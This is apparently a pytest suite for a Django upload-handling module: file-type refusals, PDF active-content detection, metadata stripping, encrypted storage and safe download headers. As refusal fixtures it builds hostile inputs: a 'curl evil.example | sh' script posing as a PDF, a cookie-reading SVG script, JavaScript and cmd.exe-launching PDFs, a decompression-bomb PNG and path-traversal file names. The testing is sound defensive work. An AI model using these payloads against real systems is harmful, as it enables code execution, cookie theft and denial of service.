"""Private files: upload checks, encryption at rest, integrity, and how files are served.

Every file here is real: images are made with Pillow, PDFs are written byte by byte with a
correct cross-reference table, the decompression bomb is a valid 20000 x 20000 PNG.
"""

from __future__ import annotations

import io
import os
import struct
import time
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError
from django.http import HttpRequest
from django.test import Client
from django.urls import path
from PIL import ExifTags, Image, ImageCms, PngImagePlugin

from caredoor.core.compliance import uploads
from caredoor.core.compliance.models import StoredFile
from caredoor.core.compliance.uploads import (
    DOCUMENT_TYPES,
    IMAGE_TYPES,
    CheckedUpload,
    FileIntegrityError,
    check_upload,
    delete_file,
    file_response,
    read_file,
    reencode_image,
    remove_orphaned_files,
    safe_name,
    store_file,
)
from tests import factories

MB = 1024 * 1024
NOT_ACCEPTED = "This file is not an accepted type. Accepted: PDF, PNG, JPEG, WebP."
ACTIVE_PDF = (
    "This PDF contains active content (scripts, embedded files or automatic actions), which "
    "is not accepted. Save it again as a plain PDF, for example with “Print to PDF”, and "
    "upload that copy."
)
DAMAGED_IMAGE = (
    "This image is damaged or incomplete and cannot be read. Please upload the original file again."
)
SIGNATURES = [b"%PDF", b"\x89PNG", b"\xff\xd8\xff", b"RIFF", b"WEBP", b"JFIF"]


# --- building real files -----------------------------------------------------------------


def image_bytes(fmt: str, size=(20, 10), mode="RGB", color="red", **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, format=fmt, **save)
    return out.getvalue()


def noisy_jpeg(size=(256, 256)) -> bytes:
    out = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(out, "JPEG")
    return out.getvalue()


def make_pdf(*extra_objects: bytes, catalog_extra: bytes = b"") -> bytes:
    """A valid one-page PDF; objects 1-3 are catalog, pages and page, extras follow."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def stream_object(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


def pillow_pdf() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "navy").save(out, format="PDF")
    return out.getvalue()


def bomb_png(side: int = 20000) -> bytes:
    """A valid 1-bit greyscale PNG of side x side pixels, about 50 KB on disk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    row = b"\x00" * (1 + (side + 7) // 8)
    deflate = zlib.compressobj(9)
    idat = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def png_chunks(data: bytes) -> list[bytes]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    kinds, i = [], 8
    while i < len(data):
        (length,) = struct.unpack(">I", data[i : i + 4])
        kinds.append(data[i + 4 : i + 8])
        i += 12 + length
    return kinds


def jpeg_markers(data: bytes) -> list[int]:
    """The markers before the first scan, where every kind of metadata would sit."""
    assert data[:2] == b"\xff\xd8"
    markers, i = [], 2
    while True:
        assert data[i] == 0xFF
        marker = data[i + 1]
        markers.append(marker)
        if marker == 0xDA:
            return markers
        i += 2 + int.from_bytes(data[i + 2 : i + 4], "big")


# --- fixtures ------------------------------------------------------------------------------


def private_files(media: Path) -> list[Path]:
    return sorted(p for p in (media / "private").rglob("*") if p.is_file())


def check_and_store(file, *, allowed=DOCUMENT_TYPES, max_bytes=5 * MB, **limits) -> StoredFile:
    checked = check_upload(file, allowed=allowed, max_bytes=max_bytes, **limits)
    return store_file(checked, purpose="specialist.credential", created_by=None)


# --- accepted files round-trip, encrypted ---------------------------------------------------

ACCEPTED = {
    "pdf": ("licence.pdf", make_pdf(), "application/pdf", "application/pdf", "licence.pdf"),
    "pillow-pdf": ("scan.pdf", pillow_pdf(), "application/pdf", "application/pdf", "scan.pdf"),
    "png": ("me.png", image_bytes("PNG"), "image/png", "image/png", "me.png"),
    "jpeg": ("me.jpeg", image_bytes("JPEG"), "image/jpeg", "image/jpeg", "me.jpg"),
    "webp": ("me.webp", image_bytes("WEBP"), "image/webp", "image/jpeg", "me.jpg"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", ACCEPTED)
def test_each_accepted_type_round_trips_encrypted(case, media):
    name, data, sent_type, stored_type, stored_name = ACCEPTED[case]
    user = factories.make_user()
    checked = check_upload(upload(name, data, sent_type), allowed=DOCUMENT_TYPES, max_bytes=MB)
    assert checked.content_type == stored_type
    stored = store_file(checked, purpose="specialist.photo", created_by=user)

    stored = StoredFile.objects.get(pk=stored.pk)
    assert (stored.purpose, stored.content_type, stored.original_name) == (
        "specialist.photo",
        stored_type,
        stored_name,
    )
    assert stored.created_by == user
    assert stored.size == len(checked.data)
    assert read_file(stored) == checked.data
    if stored_type == "application/pdf":
        assert checked.data == data  # documents are kept exactly as sent

    [blob] = private_files(media)
    now = stored.created_at
    assert blob.relative_to(media).as_posix() == f"private/{now:%Y}/{now:%m}/{stored.pk}.bin"
    assert stored.storage_name == f"private/{now:%Y}/{now:%m}/{stored.pk}.bin"
    ciphertext = blob.read_bytes()
    assert ciphertext != checked.data
    assert checked.data[:64] not in ciphertext
    for signature in SIGNATURES:
        assert signature not in ciphertext


@pytest.mark.django_db
def test_bytes_made_by_the_platform_can_be_stored_with_their_type(media):
    stored = store_file(
        make_pdf(), purpose="export", content_type="application/pdf", original_name="Export"
    )
    assert stored.original_name == "Export.pdf"
    assert read_file(stored) == make_pdf()
    with pytest.raises(ValueError, match="not image/png"):
        store_file(make_pdf(), purpose="export", content_type="image/png")
    assert StoredFile.objects.count() == 1
    assert len(private_files(media)) == 1


# --- refusals: a clear message and nothing stored ------------------------------------------

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)


def gif() -> bytes:
    return image_bytes("GIF")


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def js_pdf() -> bytes:
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\)) >>"
    return make_pdf(action, catalog_extra=b"/OpenAction 4 0 R")


def object_stream_js_pdf() -> bytes:
    hidden = b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(hidden)
    assert b"JavaScript" not in packed
    return make_pdf(
        stream_object(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
        catalog_extra=b"/OpenAction 5 0 R",
    )


def too_many_pixels(limit: str) -> str:
    return (
        f"This image has too many pixels to be processed safely; the limit is {limit} megapixels."
    )


REFUSED = {
    "script renamed .pdf": (
        lambda: upload("cv.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", "application/pdf"),
        NOT_ACCEPTED,
    ),
    "html renamed .png": (
        lambda: upload("photo.png", b"<!DOCTYPE html><html><script>alert(1)</script>", "image/png"),
        NOT_ACCEPTED,
    ),
    "svg with script": (lambda: upload("avatar.svg", SVG, "image/svg+xml"), NOT_ACCEPTED),
    "svg renamed .png": (lambda: upload("avatar.png", SVG, "image/png"), NOT_ACCEPTED),
    "gif": (lambda: upload("anim.gif", gif(), "image/gif"), NOT_ACCEPTED),
    "office document": (
        lambda: upload(
            "cv.docx",
            docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        NOT_ACCEPTED,
    ),
    "zip renamed .pdf": (lambda: upload("cv.pdf", docx(), "application/pdf"), NOT_ACCEPTED),
    "pdf with javascript": (lambda: upload("cv.pdf", js_pdf(), "application/pdf"), ACTIVE_PDF),
    "pdf with an escaped javascript name": (
        lambda: upload(
            "cv.pdf", js_pdf().replace(b"/JavaScript", b"/J#61vaScript"), "application/pdf"
        ),
        ACTIVE_PDF,
    ),
    "pdf with javascript in a compressed object stream": (
        lambda: upload("cv.pdf", object_stream_js_pdf(), "application/pdf"),
        ACTIVE_PDF,
    ),
    "pdf with a launch action": (
        lambda: upload(
            "cv.pdf",
            make_pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog_extra=b"/OpenAction 4 0 R"),
        ),
        ACTIVE_PDF,
    ),
    "pdf with an embedded file": (
        lambda: upload(
            "cv.pdf",
            make_pdf(
                stream_object(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
                b"<< /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                catalog_extra=b"/Names 5 0 R",
            ),
        ),
        ACTIVE_PDF,
    ),
    "pdf with additional actions": (
        lambda: upload(
            "cv.pdf", make_pdf(catalog_extra=b"/AA << /WC << /S /Named /N /Print >> >>")
        ),
        ACTIVE_PDF,
    ),
    "truncated pdf": (
        lambda: upload("cv.pdf", make_pdf()[:-40], "application/pdf"),
        "This PDF is incomplete or damaged: it does not end like a PDF. Please upload the "
        "original file again.",
    ),
    "oversized file": (
        lambda: upload("big.pdf", b"%PDF-" + b"0" * (int(7.25 * MB) - 5), "application/pdf"),
        "This file is 7.3 MB; the limit is 5 MB.",
    ),
    "image over max_side": (
        lambda: upload("wide.png", image_bytes("PNG", size=(6000, 4000), mode="1"), "image/png"),
        "The image is 6000×4000 pixels; the limit is 4096 on a side.",  # noqa: RUF001
    ),
    "decompression bomb": (
        lambda: upload("bomb.png", bomb_png(), "image/png"),
        too_many_pixels("16.7"),
    ),
    "truncated jpeg": (lambda: upload("me.jpg", noisy_jpeg()[:4000], "image/jpeg"), DAMAGED_IMAGE),
    "empty file": (lambda: upload("empty.pdf", b"", "application/pdf"), "This file is empty."),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", REFUSED)
def test_refused_uploads_have_a_clear_message_and_leave_nothing_stored(case, media):
    make_file, message = REFUSED[case]
    with pytest.raises(ValidationError) as refused:
        check_and_store(make_file())
    assert refused.value.messages == [message]
    assert StoredFile.objects.count() == 0
    assert private_files(media) == []


def test_the_decompression_bomb_is_tiny_and_refused_fast():
    bomb = bomb_png()
    assert len(bomb) < 200_000
    started = time.perf_counter()
    with pytest.raises(ValidationError, match="too many pixels"):
        check_upload(upload("bomb.png", bomb), allowed=IMAGE_TYPES, max_bytes=MB)
    assert time.perf_counter() - started < 1.0


def test_an_image_within_the_sides_but_over_the_pixel_limit_is_refused():
    data = image_bytes("PNG", size=(3000, 3000), mode="1")
    with pytest.raises(ValidationError) as refused:
        reencode_image(data, max_side=4096, max_pixels=4_000_000)
    assert refused.value.messages == [too_many_pixels("4")]


def test_only_the_allowed_types_are_named():
    with pytest.raises(ValidationError) as refused:
        check_upload(
            upload("me.png", image_bytes("PNG")),
            allowed=frozenset({"application/pdf"}),
            max_bytes=MB,
        )
    assert refused.value.messages == ["This file is not an accepted type. Accepted: PDF."]
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("cv.pdf", make_pdf()), allowed=IMAGE_TYPES, max_bytes=MB)
    assert refused.value.messages == [
        "This file is not an accepted type. Accepted: PNG, JPEG, WebP."
    ]


def test_small_limits_are_named_in_kilobytes():
    with pytest.raises(ValidationError) as refused:
        check_upload(
            upload("cv.pdf", make_pdf() + b"\n" * 3000), allowed=DOCUMENT_TYPES, max_bytes=2048
        )
    assert refused.value.messages == ["This file is 4 KB; the limit is 2 KB."]


class EndlessStream:
    """A non-seekable upload of unknown size that never ends; counts what is read."""

    name = "endless.pdf"

    def __init__(self) -> None:
        self.read_total = 0

    def read(self, size: int = -1) -> bytes:
        assert size >= 0, "the whole upload was asked for"
        self.read_total += size
        return (b"%PDF-" + b"0" * size)[:size]


def test_at_most_max_bytes_plus_one_are_read():
    stream = EndlessStream()
    with pytest.raises(ValidationError) as refused:
        check_upload(stream, allowed=DOCUMENT_TYPES, max_bytes=3 * MB)
    assert refused.value.messages == ["This file is larger than the limit of 3 MB."]
    assert stream.read_total == 3 * MB + 1


class DeclaredHuge:
    name = "big.pdf"
    size = 6 * MB

    def read(self, size: int = -1) -> bytes:
        raise AssertionError("read although the declared size is over the limit")


def test_a_declared_size_over_the_limit_is_refused_before_reading():
    with pytest.raises(ValidationError) as refused:
        check_upload(DeclaredHuge(), allowed=DOCUMENT_TYPES, max_bytes=5 * MB)
    assert refused.value.messages == ["This file is 6 MB; the limit is 5 MB."]


# --- PDFs that are fine ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        make_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog_extra=b"/OpenAction 4 0 R"),
        make_pdf(stream_object(zlib.compress(b"0 0 m 100 100 l S"), b"/Filter /FlateDecode")),
        # Short names like /JS occur by chance in compressed pixels; they are not names there.
        make_pdf(stream_object(b"\x00\x17/JS\x00/AA]", b"/Filter /FlateDecode")),
        pillow_pdf(),
    ],
    ids=["open-action-without-script", "compressed-content", "binary-stream", "pillow"],
)
def test_plain_pdfs_are_accepted_as_sent(data):
    checked = check_upload(upload("cv.pdf", data), allowed=DOCUMENT_TYPES, max_bytes=MB)
    assert checked.data == data and checked.content_type == "application/pdf"


def test_an_object_stream_that_cannot_be_inflated_is_refused():
    data = make_pdf(
        stream_object(b"\x00garbage", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    )
    with pytest.raises(ValidationError, match="could not be checked for active content"):
        check_upload(upload("cv.pdf", data), allowed=DOCUMENT_TYPES, max_bytes=MB)


# --- images: metadata stripped, orientation applied -----------------------------------------


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Acme Phone"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0),
    }
    return exif


SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>secret-place</rdf:RDF></x:xmpmeta>'


def test_jpeg_metadata_is_stripped():
    original = image_bytes(
        "JPEG", size=(64, 48), exif=gps_exif(), icc_profile=SRGB, xmp=XMP, comment=b"who"
    )
    probe = Image.open(io.BytesIO(original))
    assert probe.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the GPS data is really there
    assert b"Exif" in original and b"secret-place" in original

    out, content_type = reencode_image(original, max_side=4096, max_pixels=16_000_000)
    assert content_type == "image/jpeg"
    image = Image.open(io.BytesIO(out))
    assert dict(image.getexif()) == {}
    assert "icc_profile" not in image.info and "xmp" not in image.info
    assert "comment" not in image.info
    assert image.info.get("progressive") or image.info.get("progression")
    for leftover in (b"Exif", b"Acme", b"secret-place", b"http://ns.adobe.com", b"who"):
        assert leftover not in out
    markers = jpeg_markers(out)
    assert 0xC2 in markers  # progressive
    assert set(markers) <= {0xE0, 0xDB, 0xC2, 0xC4, 0xDD, 0xDA}  # JFIF, tables, frame, scan


def test_png_text_and_metadata_chunks_are_gone():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Dr. Someone")
    info.add_text("Comment", "compressed secret", zip=True)
    info.add_itxt("Description", "international secret", lang="en")
    original = image_bytes(
        "PNG", size=(32, 32), mode="RGBA", pnginfo=info, exif=gps_exif(), icc_profile=SRGB
    )
    assert {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP"} <= set(png_chunks(original))

    out, content_type = reencode_image(original, max_side=4096, max_pixels=16_000_000)
    assert content_type == "image/png"
    assert set(png_chunks(out)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    image = Image.open(io.BytesIO(out))
    assert image.mode == "RGBA"  # transparency survives
    assert dict(image.getexif()) == {} and image.text == {}
    assert b"secret" not in out and b"Someone" not in out


def test_webp_becomes_a_jpeg_without_metadata():
    original = image_bytes(
        "WEBP", size=(40, 30), mode="RGBA", color=(0, 0, 255, 0), exif=gps_exif()
    )
    out, content_type = reencode_image(original, max_side=4096, max_pixels=16_000_000)
    assert content_type == "image/jpeg"
    assert b"Exif" not in out
    image = Image.open(io.BytesIO(out))
    assert image.mode == "RGB"
    assert min(image.getpixel((20, 15))) > 240  # transparent areas become white


def test_exif_orientation_is_applied():
    picture = Image.new("RGB", (20, 10), "red")
    picture.paste((0, 0, 255), (10, 0, 20, 10))  # left half red, right half blue
    out = io.BytesIO()
    picture.save(out, format="JPEG", exif=gps_exif(orientation=6), quality=95)

    checked = check_upload(upload("me.jpg", out.getvalue()), allowed=IMAGE_TYPES, max_bytes=MB)
    upright = Image.open(io.BytesIO(checked.data))
    assert upright.size == (10, 20)
    assert dict(upright.getexif()) == {}  # the orientation tag is gone with the rest
    red, _g, blue = upright.getpixel((5, 3))
    assert red > 200 and blue < 60  # rotated clockwise: the left half is now on top
    red, _g, blue = upright.getpixel((5, 16))
    assert blue > 200 and red < 60


# --- names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("../../etc/passwd.pdf", "application/pdf", "passwd.pdf"),
        ("C:\\Users\\ana\\Zeugnis Müller.PDF", "application/pdf", "Zeugnis Müller.pdf"),
        ("invoice\u202egpj.exe", "application/pdf", "invoicegpj.pdf"),
        ("photo.webp", "image/jpeg", "photo.jpg"),
        ("cv.pdf.html", "application/pdf", "cv.pdf.pdf"),
        ('a<b>:c"d|e?f*.png', "image/png", "abcdef.png"),
        ("line\r\nbreak\t.pdf", "application/pdf", "linebreak.pdf"),
        ("", "application/pdf", "file.pdf"),
        ("...", "image/png", "file.png"),
        ("x" * 300 + ".pdf", "application/pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names_are_safe_basenames(name, content_type, expected):
    assert safe_name(name, content_type) == expected
    assert len(safe_name(name, content_type)) <= 120


# --- integrity, deletion, atomicity ----------------------------------------------------------


@pytest.fixture
def two_files(db, media):
    first = store_file(make_pdf(), purpose="t", content_type="application/pdf")
    second = store_file(image_bytes("PNG"), purpose="t", content_type="image/png")
    return first, second


def blob_of(media: Path, stored: StoredFile) -> Path:
    return media / stored.storage_name


def test_read_file_detects_a_changed_blob(two_files, media):
    first, _second = two_files
    blob = blob_of(media, first)
    data = bytearray(blob.read_bytes())
    data[60] ^= 0x01
    blob.write_bytes(bytes(data))
    with pytest.raises(FileIntegrityError, match="changed"):
        read_file(first)


def test_read_file_detects_a_blob_swapped_for_another_files(two_files, media):
    first, second = two_files
    blob_of(media, first).write_bytes(blob_of(media, second).read_bytes())
    with pytest.raises(FileIntegrityError, match="does not match its checksum"):
        read_file(first)


def test_read_file_reports_a_missing_blob(two_files, media):
    first, _second = two_files
    blob_of(media, first).unlink()
    with pytest.raises(FileIntegrityError, match="missing"):
        read_file(first)


def test_delete_file_removes_row_and_blob_on_commit(
    two_files, media, django_capture_on_commit_callbacks
):
    first, second = two_files
    with django_capture_on_commit_callbacks(execute=True):
        delete_file(first)
    assert not StoredFile.objects.filter(pk=first.pk).exists()
    assert private_files(media) == [blob_of(media, second)]


@pytest.mark.django_db
def test_a_failed_row_write_removes_the_blob(media, monkeypatch):
    def fail(*args, **kwargs):
        raise DatabaseError("disk full")

    monkeypatch.setattr(StoredFile, "save", fail)
    with pytest.raises(DatabaseError):
        store_file(make_pdf(), purpose="t", content_type="application/pdf")
    assert private_files(media) == []


@pytest.mark.django_db
def test_orphaned_blobs_are_removed_once_old(media):
    kept = store_file(make_pdf(), purpose="t", content_type="application/pdf")
    folder = blob_of(media, kept).parent
    old_orphan, new_orphan = folder / "old.bin", folder / "new.bin"
    old_orphan.write_bytes(b"x")
    new_orphan.write_bytes(b"y")
    two_hours_ago = time.time() - 7200
    os.utime(old_orphan, (two_hours_ago, two_hours_ago))
    os.utime(blob_of(media, kept), (two_hours_ago, two_hours_ago))

    assert remove_orphaned_files(older_than=timedelta(hours=1)) == 1
    assert private_files(media) == sorted([blob_of(media, kept), new_orphan])
    assert read_file(kept) == make_pdf()


def test_the_consumer_removes_orphans_nightly():
    from django.utils.module_loading import autodiscover_modules
    from huey.contrib.djhuey import HUEY

    autodiscover_modules("tasks")
    periodic = {type(t).__name__ for t in HUEY._registry.periodic_tasks}
    assert "remove_orphaned_files_nightly" in periodic


# --- serving --------------------------------------------------------------------------------

POLICY_HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "Cache-Control": "private, no-store",
    "Content-Security-Policy": "default-src 'none'; sandbox",
}


@pytest.mark.django_db
def test_images_are_served_inline_with_safe_headers(media):
    checked = check_upload(
        upload("Portrait Müller.png", image_bytes("PNG")), allowed=IMAGE_TYPES, max_bytes=MB
    )
    stored = store_file(checked, purpose="specialist.photo")
    response = file_response(stored, inline=True)
    assert response.content == checked.data
    assert response["Content-Type"] == "image/png"
    assert response["Content-Length"] == str(len(checked.data))
    assert response["Content-Disposition"] == (
        "inline; filename=\"Portrait Muller.png\"; filename*=UTF-8''Portrait%20M%C3%BCller.png"
    )
    for header, value in POLICY_HEADERS.items():
        assert response[header] == value


@pytest.mark.django_db
def test_documents_are_always_attachments(media):
    stored = store_file(
        make_pdf(), purpose="t", content_type="application/pdf", original_name="cv.pdf"
    )
    for inline in (False, True):
        response = file_response(stored, inline=inline)
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"] == 'attachment; filename="cv.pdf"'
        for header, value in POLICY_HEADERS.items():
            assert response[header] == value


def serve_stored(request: HttpRequest, pk):
    return file_response(StoredFile.objects.get(pk=pk), inline=True)


urlpatterns = [path("stored/<uuid:pk>", serve_stored)]


@pytest.mark.django_db
@pytest.mark.urls(__name__)
def test_the_headers_survive_the_middleware(media):
    stored = store_file(
        image_bytes("PNG"), purpose="t", content_type="image/png", original_name="me"
    )
    response = Client(HTTP_HOST="localhost").get(f"/stored/{stored.pk}")
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == 'inline; filename="me.png"'
    for header, value in POLICY_HEADERS.items():
        assert response[header] == value


def test_no_url_serves_private_files(settings):
    from django.urls import Resolver404, resolve

    for url in ("/media/private/2026/01/x.bin", "/media/brand-logos/../private/x.bin"):
        with pytest.raises(Resolver404):
            resolve(url, urlconf=settings.ROOT_URLCONF)


def test_checked_upload_is_a_small_value():
    checked = CheckedUpload(content_type="image/png", data=b"abc", original_name="a.png")
    assert checked.size == 3
    assert uploads.IMAGE_TYPES < uploads.DOCUMENT_TYPES
